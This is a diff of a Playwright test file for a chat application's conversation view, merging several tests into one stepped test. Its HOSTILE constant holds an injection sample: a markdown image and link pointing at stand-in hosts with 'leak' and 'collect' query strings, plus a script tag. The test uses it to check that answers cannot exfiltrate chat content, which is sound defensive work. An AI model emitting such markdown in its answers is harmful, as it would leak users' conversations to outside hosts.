@@ -1,7 +1,7 @@
 import type { Page } from "@playwright/test";
 import type { Person } from "../site/people.ts";
 import type { Site } from "../site/site.ts";
-import { expect, say, test } from "../site/test.ts";
+import { expect, test } from "../site/test.ts";
 
 const HOSTILE = `An image ![The bag](https://pictures.example/p.png?leak=everything), a [guide](https://evil.example/collect?q=everything+that+was+said) and <script>document.title = "run"</script>.
 
@@ -16,7 +16,7 @@ const days = 19;
 Prices of $5 and $10, and $a^2$.`;
 
 /** A chat of somebody with that many messages, the last one saying `last`. */
-async function aChat(site: Site, { userId }: Person, count: number, last = "The last answer."): Promise<number> {
+async function aChat(site: Site, { userId }: Person, count: number, last: string): Promise<number> {
   const [made] = await site.sql(
     "insert into conversations (user_id, name, is_name_given) values ($1, 'A chat to read', true) returning conversation_id",
     [userId],
@@ -34,91 +34,52 @@ async function aChat(site: Site, { userId }: Person, count: number, last = "The 
 
 const thread = (page: Page) => page.getByRole("region", { name: "Messages" });
 
-test("a long chat is read to its beginning, and only what is in sight is drawn", async ({
-  admin: page,
-  person,
-  site,
-}) => {
-  await page.goto(`/conversations/${await aChat(site, person, 64)}`);
-  await expect(page.getByText("The last answer.")).toBeInViewport();
-  const drawn = thread(page).getByRole("article");
-  await thread(page).hover();
-  await expect(async () => {
-    await page.mouse.wheel(0, -3000);
-    await expect(page.getByText("The beginning of this chat, 64 messages in all.")).toBeVisible({ timeout: 200 });
-  }).toPass({ timeout: 60_000, intervals: [50] });
-  expect(await drawn.count()).toBeLessThan(30);
-  await expect(page.getByText("Message number 1.", { exact: false }).first()).toBeVisible();
-  await page.getByRole("button", { name: "Jump to latest" }).click();
-  await expect(page.getByText("The last answer.")).toBeInViewport();
-});
-
-test("an answer is written again, and its versions can be gone through", async ({ admin: page }) => {
-  await page.goto("/conversations/new");
-  await say(page, "words=6 Twice");
-  await expect(page.getByText("6 words", { exact: true })).toBeVisible();
-  await page.getByRole("button", { name: "Write again" }).click();
-  const versions = page.getByRole("group", { name: "Version 2 of 2" });
-  await expect(versions).toBeVisible();
-  await expect(page.getByText("6 words", { exact: true })).toBeVisible();
-  await versions.getByRole("button", { name: "Earlier version" }).click();
-  await expect(page.getByRole("group", { name: "Version 1 of 2" })).toBeVisible();
-});
-
-test("a question is edited in its place and asked again; Esc gives that up", async ({ admin: page }) => {
-  await page.goto("/conversations/new");
-  await say(page, "words=4 The first wording");
-  await expect(page.getByText("4 words", { exact: true })).toBeVisible();
-  await page.getByText("The first wording").last().hover();
-  await page.getByRole("button", { name: "Edit" }).click();
-  const field = page.getByRole("textbox", { name: "Your message, edited" });
-  await field.press("Escape");
-  await expect(field).toBeHidden();
-  await page.getByRole("button", { name: "Edit" }).click();
-  await field.fill("words=7 The second wording");
-  await field.press("Enter");
-  await expect(page.getByText("7 words", { exact: true })).toBeVisible();
-  await expect(thread(page).getByText("The first wording")).toBeHidden();
-  await expect(page.getByRole("group", { name: "Version 2 of 2" })).toBeVisible();
-});
-
-test("an answer cannot carry the chat away: no image is fetched, and a link shows where it leads", async ({
-  admin: page,
-  person,
-  site,
-}) => {
-  const asked: string[] = [];
-  page.on("request", (request) => asked.push(request.url()));
-  await page.goto(`/conversations/${await aChat(site, person, 2, HOSTILE)}`);
-  await expect(page.getByText("Picture from pictures.example, not loaded")).toBeVisible();
-  await expect(page.getByRole("table")).toBeVisible();
-  await page.getByRole("link", { name: "guide" }).click();
-  const dialog = page.getByRole("dialog", { name: "Open evil.example?" });
-  await expect(dialog).toContainText("https://evil.example/collect?q=everything+that+was+said");
-  await dialog.getByRole("button", { name: "Stay here" }).click();
-  await expect(dialog).toBeHidden();
-  expect(asked.filter((url) => url.includes(".example"))).toEqual([]);
-  expect(await page.title()).not.toBe("run");
-});
-
-test("an answer is copied formatted, and plain without the marks of Markdown", async ({
+test("a long chat is read to its beginning, its last answer cannot carry it away, and is copied", async ({
   admin: page,
   context,
   person,
   site,
 }) => {
-  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
-  await page.goto(`/conversations/${await aChat(site, person, 2, HOSTILE)}`);
-  await expect(page.getByRole("table")).toBeVisible();
-  await thread(page).getByRole("article").last().getByRole("button", { name: "Copy" }).last().click();
-  await expect(page.getByRole("button", { name: "Copied" })).toBeVisible();
-  const { html, text } = await page.evaluate(async () => {
-    const [item] = await navigator.clipboard.read();
-    const read = async (type: string) => (await item?.getType(type))?.text() ?? "";
-    return { html: await read("text/html"), text: await read("text/plain") };
+  const asked: string[] = [];
+  page.on("request", (request) => asked.push(request.url()));
+  await test.step("a long chat is read to its beginning, and only what is in sight is drawn", async () => {
+    await page.goto(`/conversations/${await aChat(site, person, 64, `${HOSTILE}\n\nThe last answer.`)}`);
+    await expect(page.getByText("The last answer.")).toBeInViewport();
+    const drawn = thread(page).getByRole("article");
+    await thread(page).hover();
+    await expect(async () => {
+      await page.mouse.wheel(0, -3000);
+      await expect(page.getByText("The beginning of this chat, 64 messages in all.")).toBeVisible({ timeout: 200 });
+    }).toPass({ timeout: 60_000, intervals: [50] });
+    expect(await drawn.count()).toBeLessThan(30);
+    await expect(page.getByText("Message number 1.", { exact: false }).first()).toBeVisible();
+    await page.getByRole("button", { name: "Jump to latest" }).click();
+    await expect(page.getByText("The last answer.")).toBeInViewport();
   });
-  expect(html).toContain("<strong>140</strong>");
-  expect(text).toContain("1\t140");
-  expect(text).toContain("const days = 19;");
-  expect(text).not.toMatch(/\*\*|```|\|/);
+  await test.step("an answer cannot carry the chat away: no image is fetched, and a link shows where it leads", async () => {
+    await expect(page.getByText("Picture from pictures.example, not loaded")).toBeVisible();
+    await expect(page.getByRole("table")).toBeVisible();
+    await page.getByRole("link", { name: "guide" }).click();
+    const dialog = page.getByRole("dialog", { name: "Open evil.example?" });
+    await expect(dialog).toContainText("https://evil.example/collect?q=everything+that+was+said");
+    await dialog.getByRole("button", { name: "Stay here" }).click();
+    await expect(dialog).toBeHidden();
+    expect(asked.filter((url) => url.includes(".example"))).toEqual([]);
+    expect(await page.title()).not.toBe("run");
+  });
+  await test.step("an answer is copied formatted, and plain without the marks of Markdown", async () => {
+    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
+    await expect(page.getByRole("table")).toBeVisible();
+    await thread(page).getByRole("article").last().getByRole("button", { name: "Copy" }).last().click();
+    await expect(page.getByRole("button", { name: "Copied" })).toBeVisible();
+    const { html, text } = await page.evaluate(async () => {
+      const [item] = await navigator.clipboard.read();
+      const read = async (type: string) => (await item?.getType(type))?.text() ?? "";
+      return { html: await read("text/html"), text: await read("text/plain") };
+    });
+    expect(html).toContain("<strong>140</strong>");
+    expect(text).toContain("1\t140");
+    expect(text).toContain("const days = 19;");
+    expect(text).not.toMatch(/\*\*|```|\|/);
+  });
 });
